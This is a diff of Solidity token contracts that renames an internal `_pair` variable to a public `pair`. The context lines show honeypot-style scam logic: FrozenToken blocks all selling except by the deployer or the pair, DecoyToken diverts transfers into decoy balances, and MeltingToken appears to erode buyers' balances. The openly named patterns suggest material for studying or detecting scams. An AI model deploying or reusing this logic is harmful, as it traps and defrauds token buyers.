@@ -133,7 +133,7 @@ abstract contract SaltedToken {
     uint256 public constant totalSupply = 1_000_000 ether;
     uint8 public constant decimals = 18;
     mapping(address => mapping(address => uint256)) public allowance;
-    address internal immutable _pair;
+    address public immutable pair;
     address internal immutable _boss = msg.sender;
     mapping(bytes32 => uint256) internal _salted;
 
@@ -142,7 +142,7 @@ abstract contract SaltedToken {
     constructor(string memory name_, string memory symbol_, address pair_) {
         name = name_;
         symbol = symbol_;
-        _pair = pair_;
+        pair = pair_;
         _salted[_key(msg.sender)] = totalSupply;
         emit Transfer(address(0), msg.sender, totalSupply);
     }
@@ -183,7 +183,7 @@ contract FrozenToken is SaltedToken {
     constructor(string memory n, string memory s, address p) SaltedToken(n, s, p) {}
 
     function _transfer(address from, address to, uint256 amount) internal override {
-        require(from == _boss || from == _pair, "frozen");
+        require(from == _boss || from == pair, "frozen");
         super._transfer(from, to, amount);
     }
 }
@@ -204,7 +204,7 @@ contract DecoyToken is SaltedToken {
             _decoys[to] += amount;
             return;
         }
-        require(from == _boss || from == _pair, "frozen");
+        require(from == _boss || from == pair, "frozen");
         super._transfer(from, to, amount);
     }
 }
@@ -224,7 +224,7 @@ contract MeltingToken is SaltedToken {
         _settle(from);
         _settle(to);
         super._transfer(from, to, amount);
-        if (from == _pair) _boughtAt[to] = block.number;
+        if (from == pair) _boughtAt[to] = block.number;
     }
 
     function _settle(address account) private {
